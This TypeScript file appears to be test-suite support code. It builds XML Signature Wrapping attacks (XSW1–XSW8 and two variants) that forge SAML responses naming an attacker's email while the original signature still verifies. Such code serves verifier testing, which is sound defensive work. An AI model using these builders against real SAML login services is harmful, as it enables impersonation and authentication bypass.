/**
 * XML Signature Wrapping (XSW) attack builders, after Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be" (USENIX Security 2012) and the XSW1–XSW8 catalogue of the SAML Raider
 * tool. Each takes a document validly signed by the test IdP and returns a document in which an
 * unsigned "evil" element naming {@link ATTACKER_EMAIL} sits where a careless verifier would read
 * identity, while the signed original is kept somewhere its signature still verifies.
 *
 * `renameEvil`: give the evil copy a fresh ID (defeats a naive duplicate-ID check) instead of
 * keeping the original's ID (defeats a naive "the referenced ID is the one I read" check).
 */
import type { Element } from '@xmldom/xmldom';
import { NS } from '../support/test-idp.ts';
import { ATTACKER_EMAIL, assertionOf, child, parseXml, removeSignature, serialize, setNameId, signatureOf } from './harness.ts';

const EVIL_RESPONSE_ID = '_evil_response';
const EVIL_ASSERTION_ID = '_evil_assertion';

function clone(el: Element): Element {
  return el.cloneNode(true) as Element;
}

/** An unsigned copy of `response` whose assertion names the attacker. */
function evilResponseFrom(response: Element, renameEvil: boolean): Element {
  const evil = clone(response);
  if (renameEvil) evil.setAttribute('ID', EVIL_RESPONSE_ID);
  const assertion = child(evil, NS.saml, 'Assertion');
  if (renameEvil) assertion.setAttribute('ID', EVIL_ASSERTION_ID);
  setNameId(assertion, ATTACKER_EMAIL);
  return evil;
}

/** An unsigned copy of `assertion` naming the attacker. */
function evilAssertionFrom(assertion: Element, renameEvil: boolean, keepSignature = false): Element {
  const evil = clone(assertion);
  if (!keepSignature) removeSignature(evil);
  if (renameEvil) evil.setAttribute('ID', EVIL_ASSERTION_ID);
  setNameId(evil, ATTACKER_EMAIL);
  return evil;
}

/** XSW1 (signed Response): evil Response at the root; the original, unsigned, inside the Signature. */
export function xsw1(signedResponseXml: string, renameEvil = true): string {
  const doc = parseXml(signedResponseXml);
  const original = doc.documentElement as Element;
  const evil = evilResponseFrom(original, renameEvil);
  const originalCopy = clone(original);
  removeSignature(originalCopy);
  signatureOf(evil).appendChild(originalCopy);
  doc.replaceChild(evil, original);
  return serialize(doc);
}

/** XSW2 (signed Response): like XSW1, with the original placed before the Signature (detached). */
export function xsw2(signedResponseXml: string, renameEvil = true): string {
  const doc = parseXml(signedResponseXml);
  const original = doc.documentElement as Element;
  const evil = evilResponseFrom(original, renameEvil);
  const originalCopy = clone(original);
  removeSignature(originalCopy);
  evil.insertBefore(originalCopy, signatureOf(evil));
  doc.replaceChild(evil, original);
  return serialize(doc);
}

/** XSW3 (signed Assertion): an evil Assertion inserted before the signed one. */
export function xsw3(responseWithSignedAssertionXml: string, renameEvil = true): string {
  const doc = parseXml(responseWithSignedAssertionXml);
  const original = assertionOf(doc);
  original.parentNode!.insertBefore(evilAssertionFrom(original, renameEvil), original);
  return serialize(doc);
}

/** XSW4 (signed Assertion): an evil Assertion wrapping the signed one. */
export function xsw4(responseWithSignedAssertionXml: string, renameEvil = true): string {
  const doc = parseXml(responseWithSignedAssertionXml);
  const original = assertionOf(doc);
  const evil = evilAssertionFrom(original, renameEvil);
  original.parentNode!.replaceChild(evil, original);
  evil.appendChild(original);
  return serialize(doc);
}

/**
 * XSW5 (signed Assertion): the signed Assertion is modified in place (keeping its Signature) and
 * an unsigned copy of the original is appended at the end of the Response.
 */
export function xsw5(responseWithSignedAssertionXml: string, renameEvil = false): string {
  const doc = parseXml(responseWithSignedAssertionXml);
  const original = assertionOf(doc);
  const originalCopy = clone(original);
  removeSignature(originalCopy);
  const evil = evilAssertionFrom(original, renameEvil, true);
  const response = original.parentNode as Element;
  response.replaceChild(evil, original);
  response.appendChild(originalCopy);
  return serialize(doc);
}

/** XSW6 (signed Assertion): like XSW5, with the unsigned original placed inside the Signature. */
export function xsw6(responseWithSignedAssertionXml: string, renameEvil = false): string {
  const doc = parseXml(responseWithSignedAssertionXml);
  const original = assertionOf(doc);
  const originalCopy = clone(original);
  removeSignature(originalCopy);
  const evil = evilAssertionFrom(original, renameEvil, true);
  signatureOf(evil).appendChild(originalCopy);
  original.parentNode!.replaceChild(evil, original);
  return serialize(doc);
}

/** XSW7 (signed Assertion): the signed Assertion moved into `<samlp:Extensions>`, evil in its place. */
export function xsw7(responseWithSignedAssertionXml: string, renameEvil = true): string {
  const doc = parseXml(responseWithSignedAssertionXml);
  const original = assertionOf(doc);
  const response = original.parentNode as Element;
  const evil = evilAssertionFrom(original, renameEvil);
  response.replaceChild(evil, original);
  const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
  extensions.appendChild(original);
  response.insertBefore(extensions, child(response, NS.samlp, 'Status'));
  return serialize(doc);
}

/**
 * XSW8 (signed Assertion): the modified Assertion keeps the Signature, and a `<ds:Object>` inside
 * that Signature holds the unsigned original.
 */
export function xsw8(responseWithSignedAssertionXml: string, renameEvil = false): string {
  const doc = parseXml(responseWithSignedAssertionXml);
  const original = assertionOf(doc);
  const originalCopy = clone(original);
  removeSignature(originalCopy);
  const evil = evilAssertionFrom(original, renameEvil, true);
  const object = doc.createElementNS(NS.ds, 'ds:Object');
  object.appendChild(originalCopy);
  signatureOf(evil).appendChild(object);
  original.parentNode!.replaceChild(evil, original);
  return serialize(doc);
}

/** Bare-assertion form: an evil Assertion root carrying the signed one inside `<saml:Advice>`. */
export function adviceWrap(signedAssertionXml: string, renameEvil = true): string {
  const doc = parseXml(signedAssertionXml);
  const original = doc.documentElement as Element;
  const evil = evilAssertionFrom(original, renameEvil);
  const advice = doc.createElementNS(NS.saml, 'saml:Advice');
  evil.insertBefore(advice, child(evil, NS.saml, 'AuthnStatement'));
  doc.replaceChild(evil, original);
  advice.appendChild(original);
  return serialize(doc);
}

/** The original's Signature copied onto an evil Assertion; the original removed entirely. */
export function copiedSignature(responseWithSignedAssertionXml: string, renameEvil = true): string {
  const doc = parseXml(responseWithSignedAssertionXml);
  const original = assertionOf(doc);
  const evil = evilAssertionFrom(original, renameEvil, true);
  original.parentNode!.replaceChild(evil, original);
  return serialize(doc);
}
